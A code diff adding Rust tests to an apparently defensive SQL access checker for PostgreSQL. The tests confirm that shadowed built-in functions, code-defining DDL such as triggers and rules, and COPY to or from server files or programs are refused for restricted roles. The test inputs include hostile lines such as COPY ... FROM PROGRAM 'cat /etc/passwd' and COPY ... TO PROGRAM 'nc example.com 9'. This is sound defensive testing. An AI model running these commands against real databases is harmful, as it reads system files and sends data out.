@@ -812,7 +812,7 @@ fn rules_lists_every_rule_once() {
     r.sort_unstable();
     r.dedup();
     assert_eq!(r.len(), RULES.len());
-    assert_eq!(RULES.len(), 13);
+    assert_eq!(RULES.len(), 15);
 }
 
 // === touches_personal and field_action ===
@@ -1178,4 +1178,212 @@ proptest::proptest! {
             }
         }
     }
+}
+
+// === holes found by the attack corpus ===
+
+/// Decides `sql` for `login` against the hotel snapshot plus `functions` (schema, name).
+fn verdict_with_functions(login: &str, functions: &[(&str, &str)], sql: &str) -> Verdict {
+    let p = policy("");
+    let roles = p.role_set([login]);
+    let snap = hotel().with_functions(
+        functions
+            .iter()
+            .map(|(s, n)| ((*s).to_owned(), (*n).to_owned())),
+    );
+    let a = analyze_one(sql);
+    let r = resolve(&a, &snap, &path());
+    // The path the session believes in puts pg_catalog first; the real one may not.
+    decide(&p, &roles, &a, &r, &snap, &["pg_catalog".to_owned()])
+}
+
+#[test]
+fn an_unqualified_builtin_shadowed_in_another_schema_is_refused() {
+    let shadow = [("public", "now"), ("evil", "upper")];
+    for sql in [
+        "SELECT now()",
+        "SELECT upper(note) FROM rooms",
+        "SELECT id FROM rooms WHERE upper(note) = 'X'",
+    ] {
+        let v = verdict_with_functions("marketing", &shadow, sql);
+        assert_eq!(v.rule(), Some(RULE_UNTRUSTED_FUNCTION), "{sql}: {v:?}");
+    }
+    let v = verdict_with_functions("marketing", &shadow, "SELECT now()");
+    let msg = v.refusal().map(|r| r.message.clone()).unwrap_or_default();
+    assert!(msg.contains("public.now"), "{msg}");
+    // Qualified with pg_catalog, the built-in is what runs.
+    for sql in [
+        "SELECT pg_catalog.now()",
+        "SELECT pg_catalog.upper(note) FROM rooms",
+    ] {
+        let v = verdict_with_functions("marketing", &shadow, sql);
+        assert!(v.is_allowed(), "{sql}: {v:?}");
+    }
+    // Qualified with the other schema, it is an untrusted function as before.
+    let v = verdict_with_functions("marketing", &shadow, "SELECT public.now()");
+    assert_eq!(v.rule(), Some(RULE_UNTRUSTED_FUNCTION));
+    // A trusted function of the same name is fine; an untrusted twin in another schema is not.
+    let v = verdict_with_functions("marketing", &shadow, "SELECT safe_fn(id) FROM rooms");
+    assert!(v.is_allowed(), "{v:?}");
+    let v = verdict_with_functions(
+        "marketing",
+        &[("evil", "safe_fn")],
+        "SELECT safe_fn(id) FROM rooms",
+    );
+    assert_eq!(v.rule(), Some(RULE_UNTRUSTED_FUNCTION), "{v:?}");
+    // SQL syntax is not looked up, unless someone defined a function of that name.
+    let v = verdict_with_functions("marketing", &[], "SELECT coalesce(note, '') FROM rooms");
+    assert!(v.is_allowed(), "{v:?}");
+    let v = verdict_with_functions(
+        "marketing",
+        &[("public", "coalesce")],
+        "SELECT \"coalesce\"(note, '') FROM rooms",
+    );
+    assert_eq!(v.rule(), Some(RULE_UNTRUSTED_FUNCTION), "{v:?}");
+    // A role with everything clear is not concerned.
+    let v = verdict_with_functions("dba", &shadow, "SELECT now()");
+    assert!(v.is_allowed());
+}
+
+#[test]
+fn statements_defining_implicitly_run_code_are_refused() {
+    for sql in [
+        "CREATE FUNCTION public.f() RETURNS text LANGUAGE sql AS $$SELECT string_agg(phone, ',') FROM guests$$",
+        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
+        "CREATE PROCEDURE p() LANGUAGE sql AS $$SELECT 1$$",
+        "ALTER FUNCTION f() SECURITY DEFINER",
+        "ALTER ROUTINE f() RENAME TO g",
+        "CREATE TRIGGER t BEFORE INSERT ON public.mk_t FOR EACH ROW EXECUTE FUNCTION public.mk_trg()",
+        "CREATE CONSTRAINT TRIGGER t AFTER INSERT ON mk_t FOR EACH ROW EXECUTE FUNCTION f()",
+        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
+        "ALTER EVENT TRIGGER e ENABLE",
+        "CREATE RULE r AS ON INSERT TO public.mk_t DO INSTEAD SELECT upper(national_id) FROM public.guests",
+        "CREATE OR REPLACE RULE r AS ON INSERT TO mk_t DO INSTEAD NOTHING",
+        "CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.mk_eq)",
+        "CREATE AGGREGATE a (text) (SFUNC = textcat, STYPE = text)",
+        "CREATE CAST (text AS int) WITH FUNCTION f(text)",
+        "CREATE TRUSTED PROCEDURAL LANGUAGE plx HANDLER h",
+        "CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION f(internal))",
+        "CREATE EXTENSION dblink",
+        "/* c */ create   or replace function f() returns int language sql as 'select 1'",
+        "ALTER TABLE mk_t ENABLE TRIGGER t",
+    ] {
+        let v = verdict("marketing", sql);
+        assert_eq!(v.rule(), Some(RULE_CODE_DEFINITION), "{sql}: {v:?}");
+        // Denied columns only: the same.
+        let v = verdict("front_desk", sql);
+        assert_eq!(v.rule(), Some(RULE_CODE_DEFINITION), "{sql}: {v:?}");
+        assert!(verdict("dba", sql).is_allowed(), "{sql}");
+    }
+    for sql in [
+        "CREATE TABLE public.mk_t (id int, x text DEFAULT public.mk_fn())",
+        "CREATE TABLE mk_t (id int, x text DEFAULT my_fn())",
+        "CREATE TABLE mk_t (x int CHECK (public.mk_notice(x)))",
+        "CREATE TABLE mk_t (x int, CONSTRAINT c CHECK (my_fn(x)))",
+        "CREATE TABLE mk_t (x int, y text GENERATED ALWAYS AS (my_fn(x)) STORED)",
+        "ALTER TABLE mk_t ADD COLUMN y text DEFAULT my_fn()",
+        "ALTER TABLE mk_t ALTER COLUMN y SET DEFAULT my_fn()",
+        "ALTER TABLE mk_t ADD CONSTRAINT c CHECK (my_fn(x))",
+        "ALTER TABLE mk_t ALTER COLUMN y TYPE int USING my_fn(y)",
+        "CREATE INDEX ON rooms (my_fn(note))",
+        "CREATE POLICY p ON rooms USING (my_fn(note))",
+    ] {
+        let v = verdict("marketing", sql);
+        assert_eq!(v.rule(), Some(RULE_CODE_DEFINITION), "{sql}: {v:?}");
+        let msg = v.refusal().map(|r| r.message.clone()).unwrap_or_default();
+        assert!(msg.contains("attaches function "), "{msg}");
+    }
+    // Built-in and trusted functions in definitions, and definitions without code, are fine.
+    for sql in [
+        "CREATE TABLE mk_t (id int, at timestamptz DEFAULT now(), x text CHECK (length(x) < 9))",
+        "CREATE TABLE mk_t (id int, x text DEFAULT pg_catalog.upper('a'))",
+        "CREATE TABLE mk_t (id int, r int DEFAULT safe_fn(1))",
+        "ALTER TABLE mk_t ADD COLUMN y text DEFAULT 'x'",
+        "CREATE OR REPLACE VIEW v AS SELECT number FROM rooms",
+        "CREATE TABLE mk_t (x text)",
+    ] {
+        let v = verdict("marketing", sql);
+        assert_ne!(v.rule(), Some(RULE_CODE_DEFINITION), "{sql}: {v:?}");
+    }
+}
+
+#[test]
+fn copy_to_or_from_a_server_file_or_program_is_refused() {
+    for sql in [
+        "COPY rooms FROM '/tmp/rooms.csv'",
+        "COPY rooms TO '/tmp/rooms.csv'",
+        "COPY (SELECT number FROM rooms) TO '/tmp/x'",
+        "COPY rooms FROM PROGRAM 'cat /etc/passwd'",
+        "COPY rooms TO PROGRAM 'nc example.com 9'",
+        "COPY rooms FROM '/tmp/rooms.csv' WITH (FREEZE ON, NOSUCH 1)",
+    ] {
+        let v = verdict("marketing", sql);
+        assert_eq!(v.rule(), Some(RULE_SERVER_FILE), "{sql}: {v:?}");
+        let v = verdict("front_desk", sql);
+        assert_eq!(v.rule(), Some(RULE_SERVER_FILE), "{sql}: {v:?}");
+        assert!(verdict("dba", sql).is_allowed(), "{sql}");
+    }
+    allowed("marketing", "COPY rooms FROM STDIN");
+    allowed("marketing", "COPY rooms TO STDOUT");
+}
+
+#[test]
+fn array_subqueries_are_syntax_not_calls() {
+    // psql's `\d guests` and `\du` shapes.
+    allowed(
+        "marketing",
+        "SELECT r.number, ARRAY(SELECT b.note FROM rooms b WHERE (b.number = r.number)) AS n \
+         FROM rooms r",
+    );
+    allowed(
+        "marketing",
+        "SELECT array(SELECT number FROM rooms) AS numbers",
+    );
+    // The columns inside are still held to the rules.
+    refused(
+        "marketing",
+        "SELECT ARRAY(SELECT phone FROM guests)",
+        RULE_MASKED_EXPRESSION,
+        Some("public.guests.phone"),
+    );
+    // A quoted "array" is a real call.
+    let v = verdict("marketing", "SELECT \"array\"(SELECT number FROM rooms)");
+    assert!(!v.is_allowed(), "{v:?}");
+}
+
+#[test]
+fn from_only_and_constant_values_are_usable() {
+    assert_eq!(
+        masked("marketing", "SELECT phone FROM ONLY guests"),
+        ["public.guests.phone"]
+    );
+    refused(
+        "marketing",
+        "SELECT upper(phone) FROM ONLY guests",
+        RULE_MASKED_EXPRESSION,
+        Some("public.guests.phone"),
+    );
+    allowed(
+        "marketing",
+        "SELECT g.id FROM guests g JOIN (VALUES ('0900000000')) v(p) ON g.phone = v.p",
+    );
+    allowed(
+        "marketing",
+        "SELECT g.id FROM guests g JOIN (SELECT $1::text AS p) v ON v.p = g.phone",
+    );
+    // A VALUES column computed from a masked column, or a LIKE, is still refused.
+    for sql in [
+        "SELECT g.id FROM guests g JOIN (VALUES ((SELECT national_id FROM guests WHERE id = 1))) \
+         v(p) ON g.phone = v.p",
+        "SELECT g.id FROM guests g JOIN (SELECT national_id AS p FROM guests) v ON g.phone = v.p",
+        "SELECT g.id FROM guests g JOIN (SELECT upper(name) AS p FROM rooms) v ON v.p = g.phone",
+    ] {
+        assert!(!verdict("marketing", sql).is_allowed(), "{sql}");
+    }
+    refused(
+        "marketing",
+        "SELECT g.id FROM guests g JOIN (VALUES ('0987%')) v(p) ON g.phone LIKE v.p",
+        RULE_MASKED_PREDICATE,
+        Some("public.guests.phone"),
+    );
 }
